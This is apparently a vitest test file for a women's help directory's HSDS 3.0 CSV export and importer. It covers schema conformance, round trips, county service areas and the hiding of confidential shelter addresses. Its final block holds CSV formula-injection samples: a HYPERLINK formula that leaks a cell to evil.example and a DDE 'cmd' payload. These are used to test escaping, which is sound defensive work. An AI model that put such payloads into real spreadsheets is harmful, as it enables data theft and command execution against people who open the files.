// The HSDS 3.0 CSV export: checked against the specification's tabular schema (descriptor, columns, every cell),
// confidential places never written even when a record still holds them, `npm run export:hsds` on a real database,
// and a round trip through our own importer that gives back the same directory in every field the format carries.
import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { applySeed, listResources } from '../../api/db/resources-repo.ts';
import { exportHsdsPackage, TABLE_COLUMNS } from '../../api/hsds/export-package.ts';
import { importHsds } from '../../api/hsds/import.ts';
import { parsePhone } from '../../api/hsds/phones.ts';
import { zipCentre } from '../../api/hsds/zip-centres.ts';
import type { Resource } from '../../shared/schemas/resource.ts';
import { stateName } from '../../shared/us-states.ts';
import { makeResource } from '../fixtures/factories.ts';
import { databaseEnv, tempDb, type TempDb } from '../fixtures/db.ts';
import { tabularValidator } from '../fixtures/hsds-tabular.ts';

const ROOT = new URL('../../', import.meta.url).pathname;
const EXAMPLES = new URL('../fixtures/hsds-3.0/examples/csv/', import.meta.url).pathname;
const FIXTURE_11 = new URL('../fixtures/hsds-1.1/', import.meta.url).pathname;
const tabular = tabularValidator();
const run = promisify(execFile);
const NOW = new Date('2026-11-25T12:00:00Z');
const allWeek = [1, 2, 3, 4, 5, 6, 7].map((day) => ({ day, opens: '00:00', closes: '24:00' }));
const miami = zipCentre('33157')!;

const RECORDS = [
  makeResource({
    id: 'national-hotline', title: 'National Hotline', organization: 'Hotline Network', category: 'rights-advocacy', description: 'Advice day and night by phone and text.',
    phones: [{ number: '800-799-7233', kind: 'voice', languages: ['English', 'Spanish'] }, { number: '88788', kind: 'text' }, { number: '800-787-3224', kind: 'tty' }, { number: '305-555-0199', kind: 'whatsapp' }],
    phoneNumber: '800-799-7233', email: 'help@example.org', serviceArea: 'national', isOpen24Hours: true, schedule: allWeek, languages: ['English', 'Spanish'], fees: 'Free', eligibility: 'Anyone', verifiedAt: '2026-10-01',
  }),
  makeResource({ id: 'ohio-cash', title: 'Ohio Cash Help', category: 'financial-support', description: 'Cash help for families across Ohio.', state: 'OH', serviceArea: 'OH', applicationProcess: 'Apply online or by phone.', taxonomyTerms: ['Cash Assistance'] }),
  makeResource({
    id: 'columbus-clinic', title: 'Columbus Clinic', organization: 'Hotline Network', category: 'womens-health', description: 'Checkups and prenatal care.',
    address: '12 Main St, Suite 4', city: 'Columbus', state: 'OH', zip: '43215', latitude: 39.9612, longitude: -82.9988, serviceArea: 'local',
    phones: [{ number: '614-555-0100', kind: 'voice', extension: '12', label: 'Intake' }], phoneNumber: '614-555-0100',
    schedule: [1, 2, 3, 4, 5].map((day) => ({ day, opens: '09:00', closes: '17:00' })).concat([{ day: 6, opens: '10:00', closes: '14:00' }]),
    hours: 'Weekdays 9 to 5, Saturday 10 to 2', taxonomyTerms: ['Prenatal Care', 'Family Planning'], languages: ['Spanish'],
  }),
  makeResource({ id: 'harbor-house', title: 'Harbor House', category: 'housing-shelter', description: 'A safe place to stay; call for intake.', city: 'Dayton', state: 'OH', serviceArea: 'OH', isConfidential: true }),
  makeResource({ id: 'miami-grants', title: 'Miami Grants', category: 'grants', description: 'Small grants for women.', zip: '33157', city: 'Miami', state: 'FL', latitude: miami.latitude, longitude: miami.longitude, approximatePlace: true, serviceArea: 'FL' }),
  makeResource({ id: 'franklin-jobs', title: 'Franklin Jobs', category: 'employment-opportunities', description: 'Job search help.', serviceArea: 'local', serviceAreas: ['Franklin County'], url: 'https://jobs.example.org/' }),
  makeResource({ id: 'her-business', title: 'Her Business', category: 'women-owned-businesses', description: 'Mentoring for new owners.', serviceArea: 'national' }),
];

/** Every field HSDS 3.0 carries and our importer reads. */
const CARRIED = ['title', 'organization', 'description', 'category', 'phones', 'url', 'email', 'address', 'city', 'state', 'zip', 'latitude', 'longitude', 'approximatePlace', 'schedule', 'hours', 'isOpen24Hours', 'languages', 'eligibility', 'fees', 'applicationProcess', 'taxonomyTerms', 'isConfidential', 'serviceArea', 'verifiedAt'] as const;
const carried = (r: Resource) => Object.fromEntries(CARRIED.map((k) => [k, r[k]]));
/** The importer writes every US number one way ("1-800-555-0100" → "800-555-0100"): the same number, its display form. */
const asImported = (r: Resource): Resource => ({ ...r, phones: r.phones.map(({ textBody: _t, ...p }) => ({ ...p, number: parsePhone(p.number)!.number })) });

let t: TempDb;
let t2: TempDb;
let dir: string;
beforeEach(async () => {
  t = await tempDb();
  t2 = await tempDb();
  dir = mkdtempSync(join(tmpdir(), 'whs-export-'));
});
afterEach(async () => {
  await t.close();
  await t2.close();
  rmSync(dir, { recursive: true, force: true });
});

async function exportZip() {
  await applySeed(t.db, RECORDS, new Date('2026-11-23T00:00:00Z'));
  return exportHsdsPackage(await listResources(t.db), { title: 'Test Directory', homepage: 'https://help.example.org/' });
}

/** The files of a zip as text. */
const texts = (zip: Uint8Array): Record<string, string> => Object.fromEntries(Object.entries(unzipSync(zip)).map(([name, bytes]) => [name, strFromU8(bytes)]));

/** Every cell of every CSV in the package. */
const cells = (files: Record<string, string>): string[] => Object.entries(files).filter(([name]) => name.endsWith('.csv')).flatMap(([, text]) => (parse(text) as string[][]).flat());

describe('the HSDS 3.0 CSV datapackage', () => {
  it('conforms to the specification’s tabular schema: descriptor, tables, columns and every cell', async () => {
    const files = texts((await exportZip()).zip);
    expect(tabular.problems(files)).toEqual([]);
  });

  it('is checked by a tabular schema that does refuse a bad package', async () => {
    const files = texts((await exportZip()).zip);
    const [header, first, ...rest] = files['services.csv']!.split('\n');
    const firstId = first!.split(',')[0]!;
    const bad = {
      ...files,
      'services.csv': [header!.replace(',status,', ',state,'), first!.replace(firstId, 'svc-1'), ...rest].join('\n'),
      'schedules.csv': files['schedules.csv']!.replace(',09:00:00,', ',9am,'),
      'datapackage.json': files['datapackage.json']!.replace('"name": "phone"', '"name": "phones"'),
      'notes.csv': 'id\n1\n',
    };
    expect(tabular.problems(bad)).toEqual(
      expect.arrayContaining([
        { file: 'datapackage.json', message: 'resource phones.csv: name is phones, HSDS says phone' },
        { file: 'notes.csv', message: 'not a table of HSDS 3.0' },
        { file: 'services.csv', message: 'column "state" is not a field of service' },
        { file: 'services.csv', message: 'required column "status" is missing' },
        { file: 'services.csv', line: 2, message: "must have required property 'status'" },
        { file: 'services.csv', line: 2, message: 'id must match format "uuid"' },
        expect.objectContaining({ file: 'schedules.csv', message: 'opens_at must match format "iso-time"' }),
      ]),
    );
  });

  it('has a descriptor and the tables of the specification, with its columns', async () => {
    const files = unzipSync((await exportZip()).zip);
    const descriptor: unknown = JSON.parse(strFromU8(files['datapackage.json']!));
    expect(descriptor).toMatchObject({ name: 'womens-help-directory', title: 'Test Directory', homepage: 'https://help.example.org/', profile: 'tabular-data-package' });
    for (const table of Object.keys(TABLE_COLUMNS)) {
      const header = strFromU8(files[`${table}.csv`]!).split('\n')[0];
      expect(header, table).toBe(readFileSync(join(EXAMPLES, `${table}.csv`), 'utf8').replace(/^\uFEFF/, '').split(/\r?\n/)[0]);
    }
    const text = Object.values(files).map((f) => strFromU8(f)).join('\n');
    // A ZIP-centre place is not written as if it were exact.
    expect(text).not.toContain(String(miami.latitude));
    expect(strFromU8(files['services.csv']!).trim().split('\n')).toHaveLength(RECORDS.length + 1);
  });

  it('comes back through our importer as the same directory', async () => {
    const path = join(dir, 'directory.zip');
    writeFileSync(path, (await exportZip()).zip);
    const result = await importHsds(t2.db, path, { sourceUrl: 'https://example.org/', now: NOW });
    expect(result.lines[0]).toBe(`${RECORDS.length} added, 0 updated, 0 unchanged, 0 removed, 0 skipped`);
    const back = new Map((await listResources(t2.db)).map((r) => [r.title, r]));
    for (const original of await listResources(t.db)) {
      const imported = back.get(original.title);
      expect(imported, original.title).toBeDefined();
      expect(carried(imported!), original.title).toEqual(carried(asImported(original)));
      // The reach is written as an area name too ("United States", "Ohio"), which the importer keeps as a name.
      const derived = original.serviceArea === 'national' ? 'United States' : stateName(original.serviceArea);
      const areas = [...(original.serviceAreas ?? []), ...(derived ? [derived] : [])];
      expect(imported!.serviceAreas, original.title).toEqual(areas.length ? areas : undefined);
      expect(imported).toMatchObject({ sourceName: 'Test Directory', sourceUrl: 'https://example.org/' });
    }
  });

  it('writes the counties a listing serves as service areas with their FIPS code, and our importer reads them back', async () => {
    await applySeed(t.db, [makeResource({ id: 'nyc-line', title: 'NYC Line', description: 'The city’s hotline.', city: 'New York', state: 'NY', serviceArea: 'local' })]);
    const zip = exportHsdsPackage(await listResources(t.db), { title: 'Test Directory', homepage: 'https://help.example.org/' }).zip;
    const rows = parse(texts(zip)['service_areas.csv']!, { columns: true }) as Record<string, string>[];
    // A city's own listing serves the counties the city lies in: New York City's five.
    expect(rows.map((r) => [r.name, r.extent, r.extent_type])).toEqual([
      ['Bronx County, NY', '36005', 'text'],
      ['Kings County, NY', '36047', 'text'],
      ['New York County, NY', '36061', 'text'],
      ['Queens County, NY', '36081', 'text'],
      ['Richmond County, NY', '36085', 'text'],
    ]);
    const path = join(dir, 'nyc.zip');
    writeFileSync(path, zip);
    const result = await importHsds(t2.db, path, { sourceUrl: 'https://example.org/', now: NOW });
    expect(result.lines).toContain('1 listing placed in the counties their service areas name.');
    const back = (await listResources(t2.db))[0]!;
    expect(back.counties).toEqual(['36005', '36047', '36061', '36081', '36085']);
    // Exported again, each county is written once (its name came back as a service area).
    const again = exportHsdsPackage([back], { title: 'Test Directory', homepage: 'https://help.example.org/' }).zip;
    const names = (parse(texts(again)['service_areas.csv']!, { columns: true }) as Record<string, string>[]).map((r) => r.name);
    expect(names.filter((n) => n === 'Kings County, NY')).toHaveLength(1);
  });

  it('reads a county from its FIPS code as the area’s extent, whatever the area is called', async () => {
    // The District of Columbia: a name that says no "County", given with its code (and no city to work it out from).
    await applySeed(t.db, [makeResource({ id: 'dc-line', title: 'DC Line', description: 'The District’s line.', state: 'DC', serviceArea: 'local', counties: ['11001'] })]);
    const zip = exportHsdsPackage(await listResources(t.db), { title: 'Test Directory', homepage: 'https://help.example.org/' }).zip;
    expect((parse(texts(zip)['service_areas.csv']!, { columns: true }) as Record<string, string>[]).map((r) => [r.name, r.extent])).toEqual([['District of Columbia, DC', '11001']]);
    const path = join(dir, 'dc.zip');
    writeFileSync(path, zip);
    await importHsds(t2.db, path, { sourceUrl: 'https://example.org/', now: NOW });
    expect((await listResources(t2.db))[0]?.counties).toEqual(['11001']);
  });

  it('says whose list named a county, when a list did', async () => {
    const LSC = { name: 'Legal Services Corporation', year: '2010', url: 'https://github.com/larsenp/LSC-Grants/blob/55a280a/AppendixA_2011_SA.pdf' };
    await applySeed(t.db, [makeResource({ id: 'wtls', title: 'West Tennessee Legal Services', description: 'Free civil legal help.', state: 'TN', serviceArea: 'local', counties: ['47113'], countiesSource: LSC })]);
    const zip = exportHsdsPackage(await listResources(t.db), { title: 'Test Directory', homepage: 'https://help.example.org/' }).zip;
    expect((parse(texts(zip)['service_areas.csv']!, { columns: true }) as Record<string, string>[]).map((r) => [r.name, r.extent, r.description, r.uri])).toEqual([
      ['Madison County, TN', '47113', 'From the Legal Services Corporation list of 2010', LSC.url],
    ]);
  });

  it('says a listing open round the clock without weekly hours as seven all-day rows', async () => {
    await applySeed(t.db, [makeResource({ id: 'always', title: 'Always Open Line', isOpen24Hours: true })]);
    const path = join(dir, 'always.zip');
    writeFileSync(path, exportHsdsPackage(await listResources(t.db), { title: 'Test Directory' }).zip);
    await importHsds(t2.db, path, { sourceUrl: 'https://example.org/', now: NOW });
    expect((await listResources(t2.db))[0]).toMatchObject({ isOpen24Hours: true, schedule: allWeek });
  });
});

describe('confidential places in the export', () => {
  it('are never written, even from a record that still holds a street, a ZIP code and coordinates', () => {
    const shelter = { ...makeResource({ id: 'hidden-shelter', title: 'Hidden Shelter', category: 'housing-shelter', isConfidential: true, address: '77 Secret Lane', city: 'Dayton', state: 'OH', zip: '45402', latitude: 39.7589, longitude: -84.1916, serviceArea: 'local' }), updatedAt: NOW.toISOString() };
    const open = { ...makeResource({ id: 'open-clinic', title: 'Open Clinic', address: '12 Main St', city: 'Dayton', state: 'OH', zip: '45403', latitude: 39.7601, longitude: -84.1801, serviceArea: 'local' }), updatedAt: NOW.toISOString() };
    const files = texts(exportHsdsPackage([shelter, open], { title: 'Test Directory' }).zip);
    expect(tabular.problems(files)).toEqual([]);
    const all = cells(files);
    for (const secret of ['77 Secret Lane', '45402', '39.7589', '-84.1916']) expect(all.filter((c) => c.includes(secret)), secret).toEqual([]);
    // The check can tell: the open clinic's place is there, and the shelter's city, where she can be told it is.
    for (const shown of ['12 Main St', '45403', '39.7601', '-84.1801', 'Confidential location']) expect(all, shown).toContain(shown);
    expect(all.filter((c) => c === 'Dayton')).toHaveLength(2);
  });
});

describe('npm run export:hsds', () => {
  function exportCli(...args: string[]) {
    return run(process.execPath, ['--import', 'tsx', join(ROOT, 'api', 'cli', 'export-hsds.ts'), ...args], {
      cwd: ROOT,
      env: { ...process.env, ...databaseEnv(t), ORG_NAME: 'Example Coalition', PUBLIC_ORIGIN: 'https://help.example.org' },
    });
  }

  it('writes the live directory of the database as a conforming .zip, with no confidential place from the source in it', async () => {
    // The 1.1 package gives a shelter's street, ZIP code and coordinates, which the import must have dropped.
    const source = readFileSync(join(FIXTURE_11, 'physical_addresses.csv'), 'utf8') + readFileSync(join(FIXTURE_11, 'locations.csv'), 'utf8');
    for (const secret of ['1500 Example Street', '33130', '33142', '25.7617', '-80.1918']) expect(source).toContain(secret);
    await importHsds(t.db, FIXTURE_11, { now: NOW });
    await applySeed(t.db, RECORDS, new Date('2026-11-23T00:00:00Z'));
    const out = join(dir, 'directory.zip');
    const { stdout } = await exportCli(out);
    const files = texts(readFileSync(out));
    const services = (await listResources(t.db)).length;
    expect(stdout).toMatch(new RegExp(`^Wrote ${out}: ${services} services, \\d+ organizations, \\d+ locations \\(HSDS 3\\.0\\)\\.\\n$`));
    expect(files['services.csv']!.trim().split('\n')).toHaveLength(services + 1);
    expect(tabular.problems(files)).toEqual([]);
    expect(JSON.parse(files['datapackage.json']!)).toMatchObject({ title: 'Example Coalition', homepage: 'https://help.example.org' });
    const all = cells(files);
    for (const secret of ['1500 Example Street', '25.7617', '-80.1918']) expect(all.filter((c) => c.includes(secret)), secret).toEqual([]);
    for (const zip of ['33130', '33142']) expect(all, zip).not.toContain(zip);
    expect(all).toContain('12000 SW Example Ave, Suite 4');
  }, 30_000);

  it('refuses a file name that is not a .zip, with its usage', async () => {
    const failed = await exportCli(join(dir, 'directory.csv')).then(
      () => undefined,
      (error: { code: number; stderr: string }) => error,
    );
    expect(failed).toMatchObject({ code: 2, stderr: 'Usage: npm run export:hsds -- <file.zip>\n' });
  }, 30_000);
});

describe('names that a spreadsheet would run as formulas', () => {
  const HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';

  it('are written as text in every CSV of the export', async () => {
    await applySeed(t2.db, [makeResource({ id: 'odd', title: HOSTILE, organization: '@SUM(1+1)', description: '-2+3 looks like sums', category: 'grants' }), RECORDS[2]!]);
    const files = texts(exportHsdsPackage(await listResources(t2.db), { title: 'Test Directory' }).zip);
    const all = cells(files);
    for (const cell of all) if (!/^[+-]?\d+(\.\d+)?$/.test(cell)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(all).toContain(`'${HOSTILE}`);
    expect(all).toContain("'@SUM(1+1)");
    // Numbers stay numbers.
    expect(all).toContain('-82.9988');
  });

  it('lose their formula characters when imported', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'whs-formula-'));
    try {
      writeFileSync(join(folder, 'datapackage.json'), JSON.stringify({ name: 'formula-test', homepage: 'https://example.org/', resources: [{ name: 'organizations', path: 'organizations.csv' }, { name: 'services', path: 'services.csv' }] }));
      writeFileSync(join(folder, 'organizations.csv'), 'id,name\norg-1,"+cmd|\' /C calc\'!A0"\n');
      writeFileSync(join(folder, 'services.csv'), `id,organization_id,name,description,status\nsvc-1,org-1,"${HOSTILE.replace(/"/g, '""')}",Help with rent.,active\n`);
      const result = await importHsds(t2.db, folder, { source: 'formula-test', sourceUrl: 'https://example.org/', now: NOW });
      expect(result.lines[0]).toMatch(/^1 added/);
      const [listing] = await listResources(t2.db);
      expect(listing?.title).toBe('HYPERLINK("https://evil.example/?leak="&A1,"Click")');
      expect(listing?.organization).toBe("cmd|' /C calc'!A0");
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  });
});
